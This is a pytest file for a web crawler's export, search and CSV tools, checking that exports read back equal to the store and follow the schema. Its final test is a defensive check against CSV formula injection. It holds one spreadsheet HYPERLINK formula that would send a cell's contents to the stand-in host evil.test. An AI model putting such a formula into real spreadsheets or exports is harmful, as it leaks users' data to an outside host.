"""Export: JSONL, CSV and Parquet read back equal to the store; the schema; WARC provenance."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from pathlib import Path

import jsonschema
import pyarrow.parquet as pq
import pytest

from crawler.cli import main
from crawler.export import FIELD_NAMES, arrow_schema, json_schema
from crawler.reextract import reextract
from crawler.store import ARTICLE_FIELDS, open_store, read_warc_record
from tests.store.warcs import article_html, unique_text, write_warc

SCHEMA_DOC = Path(__file__).resolve().parents[2] / "docs" / "schema" / "article.schema.json"


@pytest.fixture(scope="module")
def archive(tmp_path_factory) -> Path:
    """An archive folder with two sites, one article in two versions, and one list page."""
    root = tmp_path_factory.mktemp("archive")
    (root / "warc").mkdir()
    first = [(f"http://alpha.test/news/{i}", article_html(f"Alpha {i}", unique_text(i)),
              f"2026-11-{10 + i}T09:00:00Z") for i in range(5)]
    first.append(("http://beta.test/story", article_html("Beta ünïcode, \"quoted\"",
                  unique_text(99)), "2026-11-12T09:00:00Z"))
    first.append(("http://alpha.test/", b"<html><body><a href='/news/1'>1</a></body></html>",
                  "2026-11-12T09:00:00Z"))
    write_warc(root / "warc" / "one.warc.gz", first)
    later = [("http://alpha.test/news/0", article_html("Alpha 0", unique_text(0) + " Corrected."),
              "2026-11-20T09:00:00Z")]
    write_warc(root / "warc" / "two.warc.gz", later)
    report = reextract([root / "warc"], root, jobs=1)
    assert report.errors == []
    return root


def stored(archive: Path, **filters) -> list[dict]:
    """The store's own view of the articles, as dicts."""
    with open_store(archive) as store:
        return [a.to_dict() for a in store.iter_articles(**filters)]


def test_schema_doc_matches_the_code():
    assert json.loads(SCHEMA_DOC.read_text()) == json_schema()
    assert FIELD_NAMES == ARTICLE_FIELDS
    assert arrow_schema().names == list(FIELD_NAMES)


def test_jsonl_reads_back_and_follows_the_schema(archive, tmp_path):
    out = tmp_path / "a.jsonl"
    assert main(["export", "--archive-dir", str(archive), "-o", str(out)]) == 0
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert rows == stored(archive)
    assert len(rows) == 6
    for row in rows:
        jsonschema.validate(row, json_schema())
        assert list(row) == list(FIELD_NAMES)


def test_csv_reads_back(archive, tmp_path):
    out = tmp_path / "a.csv"
    assert main(["export", "--archive-dir", str(archive), "-o", str(out)]) == 0
    with open(out, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    expected = stored(archive)
    assert [r["url"] for r in rows] == [e["url"] for e in expected]
    for row, want in zip(rows, expected, strict=True):
        assert row["text"] == want["text"]  # multi-line text survives quoting
        assert row["title"] == want["title"]
        assert row["authors"] == "; ".join(want["authors"])
        assert int(row["warc_offset"]) == want["warc_offset"]
        assert row["is_partial"] == str(want["is_partial"]).lower()


def test_parquet_reads_back_with_pyarrow(archive, tmp_path):
    out = tmp_path / "a.parquet"
    assert main(["export", "--archive-dir", str(archive), "-o", str(out), "--all-versions"]) == 0
    table = pq.read_table(out)
    assert table.schema.equals(arrow_schema())
    rows = [{**row, "blocks": json.loads(row["blocks"])} for row in table.to_pylist()]
    assert rows == stored(archive, all_versions=True)


def test_every_exported_article_points_at_its_warc_record(archive, tmp_path):
    out = tmp_path / "all.jsonl"
    assert main(["export", "--archive-dir", str(archive), "-o", str(out), "--all-versions"]) == 0
    rows = [json.loads(line) for line in out.read_text().splitlines()]
    assert len(rows) == 7
    for row in rows:
        record = read_warc_record(type("Row", (), row), archive)
        assert record.record_id == row["warc_record_id"]
        assert record.target_uri == row["url"]
        assert record.payload_digest == row["payload_digest"]


def test_filters_and_versions(archive, capsysbinary):
    assert main(["export", "--archive-dir", str(archive), "--site", "beta.test"]) == 0
    lines = capsysbinary.readouterr().out.splitlines()
    assert [json.loads(line)["url"] for line in lines] == ["http://beta.test/story"]
    assert main(["export", "--archive-dir", str(archive), "--since", "2026-11-13",
                 "--all-versions", "-f", "csv", "-o", "-"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsysbinary.readouterr().out.decode())))
    assert sorted((r["url"], r["version"]) for r in rows) == [
        ("http://alpha.test/news/0", "2"), ("http://alpha.test/news/3", "1"),
        ("http://alpha.test/news/4", "1")]
    latest = {r["url"]: r for r in stored(archive)}
    assert "Corrected" in latest["http://alpha.test/news/0"]["text"][-20:]


def test_bad_export_input_is_one_line(archive, tmp_path, capsys):
    assert main(["export", "--archive-dir", str(archive), "--since", "soon"]) == 2
    assert "cannot read the date 'soon'" in capsys.readouterr().err
    missing = str(tmp_path / "no" / "x.csv")
    assert main(["export", "--archive-dir", str(archive), "-o", missing]) == 2
    assert "does not exist" in capsys.readouterr().err
    assert main(["export", "--archive-dir", str(archive), "--site", "gamma.test"]) == 0
    assert "no site named 'gamma.test' in the store (sites: alpha.test, beta.test)" in \
        capsys.readouterr().err
    assert main(["export", "--archive-dir", str(tmp_path / "empty")]) == 2
    assert "no article store" in capsys.readouterr().err


def test_export_to_a_folder_or_unwritable_file_is_one_line(archive, tmp_path, capsys):
    assert main(["export", "--archive-dir", str(archive), "-o", str(tmp_path)]) == 2
    assert f"{tmp_path} is a folder: give a file name" in capsys.readouterr().err
    too_long = tmp_path / ("x" * 300 + ".csv")  # the file cannot be created
    assert main(["export", "--archive-dir", str(archive), "-o", str(too_long)]) == 2
    assert "cannot write" in capsys.readouterr().err


def test_search_command(archive, capsys):
    word = unique_text(99).split()[3]
    assert main(["search", word, "--archive-dir", str(archive), "--json"]) == 0
    hits = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert "http://beta.test/story" in [h["url"] for h in hits]
    assert main(["search", "zzzznothing", "--archive-dir", str(archive)]) == 1


def test_search_says_how_many_more_matched(archive, capsys):
    assert main(["search", "Alpha", "--archive-dir", str(archive), "--limit", "2"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[-1] == "3 more: --limit 5 shows them all"
    assert main(["search", "Alpha", "--archive-dir", str(archive), "--limit", "5"]) == 0
    assert "more:" not in capsys.readouterr().out


@pytest.mark.parametrize("command", ["search", "duplicates"])
def test_a_limit_past_sqlite_integers_means_all(archive, capsys, command):
    words = ["Alpha"] if command == "search" else []
    code = main([command, *words, "--archive-dir", str(archive), "--limit", str(2**64)])
    assert code in (0, 1)
    assert "Traceback" not in capsys.readouterr().err
    if command == "search":
        assert code == 0


@pytest.mark.skipif(shutil.which("jq") is None, reason="jq is not installed")
def test_stdout_pipes_into_jq(archive):
    export = subprocess.Popen(
        [sys.executable, "-m", "crawler.cli", "export", "--archive-dir", str(archive)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )
    urls = subprocess.run(["jq", "-r", ".url"], stdin=export.stdout, capture_output=True,
                          text=True, timeout=60, check=True).stdout.split()
    export.stdout.close()
    assert export.wait(timeout=60) == 0
    assert "Exported 6 article(s) as jsonl to stdout" in export.stderr.read().decode()
    export.stderr.close()
    assert sorted(urls) == sorted(a["url"] for a in stored(archive))


def test_csv_cells_are_never_live_formulas(tmp_path):
    """Titles (or any text) starting with = + - @ are written as text: a ' in front (OWASP)."""
    root = tmp_path / "formulas"
    (root / "warc").mkdir(parents=True)
    titles = ['=HYPERLINK("http://evil.test/?"&A1,"click")', "+1 rise", "-5 fall",
              "@SUM(A1:A9)", "Plain title"]
    pages = [(f"http://formula.test/news/{i}", article_html(title, unique_text(200 + i)),
              "2026-11-10T09:00:00Z") for i, title in enumerate(titles)]
    write_warc(root / "warc" / "f.warc.gz", pages)
    assert reextract([root / "warc"], root, jobs=1).errors == []
    out = tmp_path / "f.csv"
    assert main(["export", "--archive-dir", str(root), "-o", str(out)]) == 0
    with open(out, newline="", encoding="utf-8") as handle:
        got = {row["url"]: row["title"] for row in csv.DictReader(handle)}
    want = {url: ("'" + t if t[0] in "=+-@" else t)
            for (url, _, _), t in zip(pages, titles, strict=True)}
    assert got == want
